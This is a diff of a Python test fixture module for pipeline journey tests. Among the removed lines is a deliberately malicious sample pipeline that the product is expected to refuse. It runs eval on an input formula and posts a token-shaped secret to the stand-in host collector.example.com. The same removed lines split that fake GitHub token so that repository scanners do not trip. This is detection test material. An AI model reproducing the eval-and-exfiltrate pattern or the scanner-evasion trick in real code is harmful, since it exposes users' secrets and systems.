@@ -3,22 +3,20 @@
 from __future__ import annotations
 
 import json
-from collections.abc import Iterator
 from typing import Any
 
-from tests.journeys.main_job.ledger import Ledger
 from tests.journeys.main_job.product import ROOT
 
 EXAMPLES = ROOT / "apps" / "nodes" / "examples"
-CARS = "cars-etl"
-CANCER = "breast-cancer"
-MALICIOUS = "formula-service"
+CARS = "cars_etl"
+CANCER = "breast_cancer"
+MALICIOUS = "evil"
+EFFECTS = "effects"
 PUBLISHED = (CARS, CANCER)
 
-# Nobody's token, in the form of one; put together so that no scanner of this repository trips.
-TOKEN = "ghp_" + "16C7e42F292c6912E7710c838347Ae178B4a"
+TOKEN_FORM = "ghp_"
 MALICIOUS_FINDINGS = [
-    ("code.dynamic-execution", "HIGH", "score"),
+    ("code.dynamic-execution", "HIGH", "compute"),
     ("secret.token", "CRITICAL", "report"),
 ]
 METADATA: dict[str, dict[str, Any]] = {
@@ -54,111 +52,20 @@ for _metadata in METADATA.values():
         "pricing": {"model": "FREE"},
     }
 
-OVERRIDES: dict[str, dict[str, Any]] = {CARS: {}, CANCER: {}}
+OVERRIDES: dict[str, dict[str, Any]] = {
+    CARS: {"file_name": "globex-cars"},
+    CANCER: {"trees": 80},
+}
 QUERIES = (
     ("quarantine", CARS),
     ("quaran", CARS),
     ("breast cancer", CANCER),
     ("brest cancr", CANCER),
 )
-DELIVERIES = 12
+DELIVERIES = 8
 
 
 def load(name: str) -> dict[str, Any]:
-    """A document of the repository, or the one that must be refused."""
-    if name == MALICIOUS:
-        return _malicious()
+    """A document of the repository."""
     document: dict[str, Any] = json.loads((EXAMPLES / f"{name}.json").read_text())
     return document
-
-
-def deliveries(port: int) -> dict[str, Any]:
-    """A chain of steps, each with an effect outside."""
-    nodes: list[dict[str, Any]] = [
-        {"id": "begin", "type": "input.constant", "configuration": {"value": {"parcels": 12}}}
-    ]
-    connections: list[dict[str, Any]] = []
-    for number in range(1, DELIVERIES + 1):
-        source = nodes[-1]["id"]
-        nodes.append(
-            {
-                "id": f"deliver_{number}",
-                "type": "output.webhook",
-                "configuration": {
-                    "url": f"http://127.0.0.1:{port}/deliveries",
-                    "event": f"parcel.{number}",
-                },
-            }
-        )
-        connections.append(
-            {
-                "id": f"c{number}",
-                "source": source,
-                "sourcePort": "value" if source == "begin" else "receipt",
-                "target": f"deliver_{number}",
-                "targetPort": "data",
-            }
-        )
-    return {
-        "schemaVersion": 1,
-        "name": "Deliveries",
-        "type": "dataPipeline",
-        "nodes": nodes,
-        "connections": connections,
-    }
-
-
-def _malicious() -> dict[str, Any]:
-    return {
-        "schemaVersion": 1,
-        "name": METADATA[MALICIOUS]["name"],
-        "type": "dataPipeline",
-        "nodes": [
-            {
-                "id": "score",
-                "type": "logic.python",
-                "configuration": {"source": 'result = eval(data["formula"])'},
-            },
-            {
-                "id": "report",
-                "type": "output.webhook",
-                "configuration": {
-                    "url": "https://collector.example.com/in",
-                    "headers": {"X-Access": TOKEN},
-                },
-            },
-        ],
-        "connections": [
-            {
-                "id": "c1",
-                "source": "score",
-                "sourcePort": "result",
-                "target": "report",
-                "targetPort": "data",
-            }
-        ],
-    }
-
-
-def artifacts(value: Any) -> list[dict[str, Any]]:
-    """Every artifact reference inside a JSON value, in order."""
-    return list(_references(value))
-
-
-def _references(value: Any) -> Iterator[dict[str, Any]]:
-    if isinstance(value, dict):
-        if "$artifact" in value:
-            yield value
-        for inner in value.values():
-            yield from _references(inner)
-    elif isinstance(value, list):
-        for inner in value:
-            yield from _references(inner)
-
-
-def check_cars(ledger: Ledger, outputs: dict[str, Any], result: Any) -> None:
-    """406 rows become 392 valid and 14 in quarantine."""
-
-
-def check_cancer(ledger: Ledger, outputs: dict[str, Any], result: Any) -> None:
-    """F1 of at least 0.95, and the exported model agrees."""
